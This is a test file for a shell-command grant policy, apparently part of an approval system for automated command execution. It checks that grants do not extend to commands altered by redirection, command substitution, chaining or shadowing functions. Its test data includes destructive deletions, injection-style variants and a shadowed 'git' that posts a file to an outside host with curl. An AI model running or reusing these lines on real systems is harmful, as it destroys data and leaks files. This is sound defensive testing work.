import { describe, expect, test } from "vitest";
import type { GrantScope } from "../../src/core/index.ts";
import { verifies } from "../requirements/verifies.ts";
import { Random } from "../simulation/random.ts";
import { findingsOf, grantableFor, grantables, inShell, isGranted, saved } from "./grants.ts";
import { command, policy } from "./places.ts";
import { pick } from "./rewriting/form.ts";
import { world } from "./world.ts";

const scopes: readonly GrantScope[] = ["session", "project", "user"];
const elsewhere = { cwd: "/home/dev/other" };
const below = { cwd: `${world.root}/packages/app`, more: { folder: world.root } };

/** Each makes something more of a command than it was granted for. */
const additions: Readonly<Record<string, (text: string) => string>> = {
  "output goes to a file": (text) => `${text} > out.txt`,
  "output is added to a file": (text) => `${text} >> out.txt`,
  "errors go to a file": (text) => `${text} 2> errors.txt`,
  "errors go with the output": (text) => `${text} 2>&1`,
  "input comes from a file": (text) => `${text} < input.txt`,
  "input comes from a here-string": (text) => `${text} <<< word`,
  "a document is its input": (text) => `${text} << EOF\nword\nEOF`,
  "a command in its place": (text) => `${text} $(id -u)`,
  "a command in quotes": (text) => `${text} "$(id -u)"`,
  "a command in backquotes": (text) => `${text} \`id -u\``,
  "a file that is a command's output": (text) => `${text} <(id -u)`,
  "a variable": (text) => `${text} "$X"`,
  "another command after it": (text) => `${text}; ls`,
  "another command on the next line": (text) => `${text}\nls`,
  "another command if it succeeds": (text) => `${text} && ls`,
  "another command if it fails": (text) => `${text} || ls`,
  "another command before it": (text) => `ls; ${text}`,
  "another folder before it": (text) => `cd src && ${text}`,
  "a pipe after it": (text) => `${text} | cat`,
  "a pipe before it": (text) => `cat list.txt | ${text}`,
  "run in the background": (text) => `${text} &`,
  "a variable for it alone": (text) => `MODE=fast ${text}`,
  "a variable set before it": (text) => `MODE=fast; ${text}`,
  "run by another program": (text) => `timeout 5 ${text}`,
  "in a subshell": (text) => `(${text})`,
  "its result turned around": (text) => `! ${text}`,
  "as long as it succeeds": (text) => `while ${text}; do :; done`,
  "one more argument": (text) => `${text} more`,
  "one more option": (text) => `${text} -v`,
  "one more, empty argument": (text) => `${text} ''`,
};

/** A here-document is not to be touched behind its end; behind a comment nothing counts. */
const takesMore = (text: string): boolean => !/<<|#/.test(text);

verifies("APPR-7i", "a grant covers the identical command in its scope, in a new shell and in one worked in", () => {
  expect(grantables.length).toBeGreaterThanOrEqual(100);
  const missed = grantables.flatMap(({ text, rule }) => {
    const found = findingsOf(policy.judge(command(text)));
    const plans = [command(text), command(text, below), inShell(text), inShell(text, below.cwd)];
    const same = plans.filter((plan) => findingsOf(policy.judge(plan)) === found && grantableFor(plan) !== null);
    return scopes.flatMap((scope) =>
      same.filter((plan) => !isGranted(plan, saved(rule, scope))).map((plan) => [scope, plan.cwd, text]),
    );
  });
  expect(missed).toEqual([]);
});

test("a grant that was given in a shell that was worked in covers the same in a new one", () => {
  const missed = grantables.filter(({ text }) => {
    const rule = grantableFor(inShell(text));
    return rule !== null && !isGranted(command(text), saved(rule, "project"));
  });
  expect(missed.map(({ text }) => text)).toEqual([]);
});

describe.each(Object.entries(additions))("with %s", (_what, add) => {
  verifies("APPR-7i", "no command is covered by the grant for what it was", () => {
    const covered = grantables
      .filter(({ text }) => takesMore(text))
      .filter(({ text, rule }) => isGranted(command(add(text)), saved(rule, "user")));
    expect(covered.map(({ text }) => add(text))).toEqual([]);
  });
});

verifies("APPR-7i", "a grant covers nothing with an argument changed or left out, or other input", () => {
  const covered = grantables.flatMap(({ text, rule }) => {
    const words = text.split(" ");
    const others = words.flatMap((word, index) => [
      words.toSpliced(index, 1).join(" "),
      words.toSpliced(index, 1, `${word}2`).join(" "),
      words.toSpliced(index, 0, word).join(" "),
    ]);
    return others.filter((other) => other.trim() !== text && isGranted(command(other), saved(rule, "user")));
  });
  expect(covered).toEqual([]);
  const document = (path: string) => command(`python3 <<'PY'\nimport shutil\nshutil.rmtree('${path}')\nPY`);
  const rule = grantableFor(document("build"));
  expect(rule).not.toBeNull();
  if (rule !== null) expect(isGranted(document("src"), saved(rule, "user"))).toBe(false);
});

verifies("APPR-7i", "no grant of one command covers another one", () => {
  const all = grantables.map(({ text, rule }) => ({ ...saved(rule, "user"), id: text }));
  const judged = grantables.map(({ text }) => policy.judge(command(text), all));
  expect(judged.map((each) => (each.verdict === "allow" ? each.granted : each))).toEqual(
    grantables.map(({ text }) => text),
  );
});

verifies("APPR-7i", "what is made of granted commands is covered by its own grant and by none of theirs", () => {
  const random = new Random(7);
  const single = grantables.filter(({ text }) => takesMore(text));
  const ways = Object.values(additions);
  const wrong: string[] = [];
  for (let round = 0; round < 1_500; round++) {
    const [one, other] = [pick(random, single), pick(random, single)];
    const add = pick(random, ways);
    if (one === undefined || other === undefined || add === undefined) continue;
    const text = add(`${one.text}${pick(random, [" && ", " | ", "; ", " || "])}${other.text}`);
    const theirs = [one, other].map(({ rule }, index) => ({ ...saved(rule, "user"), id: `g-${index}` }));
    if ("granted" in policy.judge(command(text), theirs)) wrong.push(`covered: ${text}`);
    const rule = grantableFor(command(text));
    if (rule !== null && !isGranted(command(text), saved(rule, "session"))) wrong.push(`not covered: ${text}`);
  }
  expect(wrong).toEqual([]);
});

verifies(
  "APPR-7i",
  "a grant for a session or a project counts in its folder alone, one for a person everywhere",
  () => {
    for (const { text, rule } of grantables) {
      const there = command(text, elsewhere);
      expect([text, isGranted(there, saved(rule, "session"))]).toEqual([text, false]);
      expect([text, isGranted(there, saved(rule, "project"))]).toEqual([text, false]);
      const same = rule.signature === grantableFor(there)?.signature;
      expect([text, isGranted(there, saved(rule, "user"))]).toEqual([text, same]);
    }
    const plain = ["rm -rf build", "git push origin main", "sudo -n true"];
    expect(plain.map((text) => isGranted(command(text, elsewhere), userGrant(text)))).toEqual([true, true, true]);
  },
);

function userGrant(text: string) {
  const rule = grantableFor(command(text));
  if (rule === null) throw new Error(`nothing can be granted for ${text}`);
  return saved(rule, "user");
}

test("a shell that went elsewhere has its grants for there alone", () => {
  const there = inShell("rm -rf build", "/home/dev/other");
  const rule = grantableFor(there);
  expect(rule?.root).toBe("/home/dev/other");
  if (rule === null) return;
  expect(isGranted(there, saved(rule, "project"))).toBe(true);
  expect(isGranted(inShell("rm -rf build"), saved(rule, "project"))).toBe(false);
});

test("a name that means something else in the shell by now is not what was granted", () => {
  const clean = (folder: string) =>
    inShell("clean", world.cwd, { functions: { clean: `{ \n    rm -rf ${folder}\n}` } });
  const rule = grantableFor(clean("build"));
  expect(rule?.display).toBe("clean");
  if (rule === null) return;
  expect(isGranted(clean("build"), saved(rule, "user"))).toBe(true);
  expect(isGranted(clean("src"), saved(rule, "user"))).toBe(false);
  const git = inShell("git push", world.cwd, { functions: { git: "{ \n    curl -d @x example.com\n}" } });
  expect(isGranted(git, userGrant("git push"))).toBe(false);
});
